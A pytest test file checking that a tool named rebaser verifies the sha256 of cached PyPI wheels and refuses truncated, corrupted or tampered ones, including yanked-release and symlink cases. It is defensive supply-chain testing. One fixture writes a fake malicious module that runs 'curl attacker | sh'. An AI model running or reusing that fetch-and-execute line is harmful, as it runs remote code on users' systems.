"""The PyPI cache is verified: each wheel's sha256 comes from the index when it is downloaded
and is checked again before the wheel is imported; a truncated, corrupted or repacked cached
wheel is removed and downloaded again (and rebaser says so), never imported or tagged."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from fake_pypi import wheel_bytes, wheel_name

from rebaser.errors import ExitCode
from rebaser.upstream import PypiSpec, pypi_cache, resolve_pypi

VERSION = "9.9.0"


def wheel_path(fake_wheels: Path) -> Path:
    return fake_wheels / wheel_name(VERSION)


def materialise_in_fresh_cache(tmp_path, monkeypatch, name: str):
    """Materialise in a new cache folder sharing the wheel folder (as DSA_FORKKIT_WHEELS does)."""
    monkeypatch.setenv("DSA_FORKKIT_CACHE", str(tmp_path / name))
    cache = pypi_cache("megatron-core")
    return cache, cache.materialise(VERSION)


def test_download_records_the_index_sha256_and_the_commit_names_it(tmp_path, fake_pypi):
    import hashlib

    cache = pypi_cache("megatron-core")
    release = cache.materialise(VERSION)
    digest = hashlib.sha256(fake_pypi.wheels[VERSION]).hexdigest()
    wheel = wheel_path(tmp_path / "fake-wheels")
    assert (wheel.parent / (wheel.name + ".sha256")).read_text().strip() == digest
    assert f"sha256 {digest}" in cache.git.out("log", "-1", "--format=%B", release.sha)
    assert cache.materialise(VERSION) == release and fake_pypi.downloads == [VERSION]


def truncate(wheel: Path) -> None:
    wheel.write_bytes(wheel.read_bytes()[: wheel.stat().st_size // 2])


def corrupt_a_member(wheel: Path) -> None:
    """Flip bytes inside compressed data: the zip directory is intact, inflating fails."""
    data = bytearray(wheel.read_bytes())
    with zipfile.ZipFile(wheel) as archive:
        info = archive.getinfo("megatron/core/calc.py")
    start = info.header_offset + 30 + len(info.filename) + 2
    data[start : start + 8] = b"\xff" * 8
    wheel.write_bytes(bytes(data))


def repack_with_injected_code(wheel: Path) -> None:
    injected = {"megatron/core/evil.py": "import os\nos.system('curl attacker | sh')\n"}
    wheel.write_bytes(wheel_bytes(VERSION, extra=injected))


@pytest.mark.parametrize("damage", [truncate, corrupt_a_member, repack_with_injected_code])
@pytest.mark.parametrize("recorded", [True, False], ids=["recorded", "no-record"])
def test_a_damaged_cached_wheel_is_downloaded_again_never_imported(
    tmp_path, monkeypatch, capsys, fake_pypi, damage, recorded
):
    _, clean = materialise_in_fresh_cache(tmp_path, monkeypatch, "cache-a")
    wheel = wheel_path(tmp_path / "fake-wheels")
    damage(wheel)
    if not recorded:  # e.g. a wheel cached by an older rebaser, or by pip
        (wheel.parent / (wheel.name + ".sha256")).unlink()
    capsys.readouterr()
    cache, again = materialise_in_fresh_cache(tmp_path, monkeypatch, "cache-b")
    assert again.sha == clean.sha  # the genuine release, byte for byte
    files = cache.git.out("ls-tree", "-r", "--name-only", again.sha).splitlines()
    assert "megatron/core/evil.py" not in files and "megatron/core/calc.py" in files
    err = capsys.readouterr().err
    assert f"the cached {wheel.name} is not" in err and "downloading it again" in err
    assert fake_pypi.downloads == [VERSION, VERSION]
    assert wheel.read_bytes() == fake_pypi.wheels[VERSION]


def test_an_index_serving_altered_bytes_is_refused(rebaser, tmp_path, fake_pypi):
    fake_pypi.listed[VERSION] = "0" * 64  # the file served no longer matches the index
    result = rebaser("apply", "--upstream", f"pypi:megatron-core=={VERSION}", "--test", "none")
    assert result.code == ExitCode.ENVIRONMENT, result.err
    assert "does not match the sha256 PyPI lists" in result.err
    assert not list((tmp_path / "fake-wheels").glob("*.whl"))  # nothing half-trusted is kept
    assert pypi_cache("megatron-core").cached(VERSION) is None


def test_a_folder_where_the_cache_expects_a_wheel_is_a_clear_environment_error(
    rebaser, tmp_path, fake_pypi
):
    folder = wheel_path(tmp_path / "fake-wheels")
    (folder / "notes").mkdir(parents=True)  # the user's folder: never removed by rebaser
    result = rebaser("apply", "--upstream", f"pypi:megatron-core=={VERSION}", "--test", "none")
    assert result.code == ExitCode.ENVIRONMENT, result.err
    assert f"{folder} is a folder where the cache expects a wheel file" in result.err
    assert "remove it" in result.err and "Traceback" not in result.err
    assert (folder / "notes").is_dir() and fake_pypi.downloads == []


def test_a_yanked_release_is_used_as_asked_with_a_warning(tmp_path, monkeypatch, capsys, fake_pypi):
    """PyPI yanked megatron-core 0.18.1 and 0.19.1 ("wrong version"): as pip does for an exact
    pin (PEP 592) rebaser uses them, and says so every time, from the cache too."""
    fake_pypi.add("9.9.1")
    fake_pypi.yanked["9.9.1"] = "wrong version"
    for attempt in ("downloaded", "cached", "cached again"):
        target = resolve_pypi(PypiSpec("megatron-core", "9.9.1"))
        assert target.description == "pypi:megatron-core==9.9.1 (PyPI wheel, yanked: wrong version)"
        assert (
            "rebaser: warning: pypi:megatron-core==9.9.1 is yanked on PyPI: wrong version; "
            "using it as asked" in capsys.readouterr().err
        ), attempt
    assert fake_pypi.downloads == ["9.9.1"]
    asked = fake_pypi.project_requests  # the yank status is recorded, not asked again
    assert resolve_pypi(PypiSpec("megatron-core", "9.9.1")) and fake_pypi.project_requests == asked
    capsys.readouterr()
    # A release that is not yanked says nothing; one yanked without a reason says that much.
    assert resolve_pypi(PypiSpec("megatron-core", VERSION)).description.endswith("(PyPI wheel)")
    assert "yanked" not in capsys.readouterr().err
    fake_pypi.add("9.9.2")
    fake_pypi.yanked["9.9.2"] = ""
    assert resolve_pypi(PypiSpec("megatron-core", "9.9.2")).description.endswith(
        "(PyPI wheel, yanked)"
    )
    # Offline, with nothing recorded: no status to report, and the release still resolves.
    monkeypatch.setenv("DSA_FORKKIT_CACHE", str(tmp_path / "offline-cache"))
    pypi_cache("megatron-core").materialise(VERSION)
    monkeypatch.setenv("DSA_FORKKIT_PYPI_URL", "http://127.0.0.1:9/pypi")
    assert resolve_pypi(PypiSpec("megatron-core", VERSION)).description.endswith("(PyPI wheel)")


def test_the_yank_record_is_never_written_through_a_link_nor_read_from_a_fifo(tmp_path, fake_pypi):
    import os

    fake_pypi.add("9.9.1")
    fake_pypi.yanked["9.9.1"] = "wrong version"
    cache = pypi_cache("megatron-core")
    cache.materialise("9.9.1")
    record = cache.repo_dir.with_name("megatron-core.yanked.json")
    outside = tmp_path / "outside.json"
    outside.write_text("keep\n")
    record.with_name(record.name + ".part").symlink_to(outside)
    assert cache.yanked("9.9.1") == "wrong version"
    assert outside.read_text() == "keep\n" and not record.is_symlink()
    record.unlink()
    os.mkfifo(record)  # a FIFO where the record goes: read as nothing, never waited on
    assert cache.yanked("9.9.1") == "wrong version"


def test_a_pinned_release_named_again_as_a_revision_is_accepted(rebaser, tmp_path, fake_pypi):
    """A review: `--upstream pypi:megatron-core==V --base <V's tag or commit>` names the
    pinned release itself, and was refused as "--base says otherwise"; another revision
    still is."""
    pinned = f"pypi:megatron-core=={VERSION}"
    first = rebaser("apply", "--upstream", pinned, "--test", "none", "--keep-going")
    assert first.code != ExitCode.USAGE, first.err
    sha = pypi_cache("megatron-core").cached(VERSION).sha
    for base in (f"pypi/megatron-core/{VERSION}", sha):
        again = rebaser(
            "apply",
            "--upstream",
            pinned,
            "--base",
            base,
            "--test",
            "none",
            "--keep-going",
            "--force",
        )
        assert again.code != ExitCode.USAGE and "pins" not in again.err, (base, again.err)
    fake_pypi.add("9.9.1")  # another release in the cache: a revision that is not V's
    assert (
        rebaser(
            "apply", "--upstream", "pypi:megatron-core==9.9.1", "--keep-going", "--test", "none"
        ).code
        != 2
    )
    other = "pypi/megatron-core/9.9.1"
    refused = rebaser("apply", "--upstream", pinned, "--base", other, "--test", "none")
    assert refused.code == ExitCode.USAGE and f"pins {VERSION}" in refused.err, refused.err
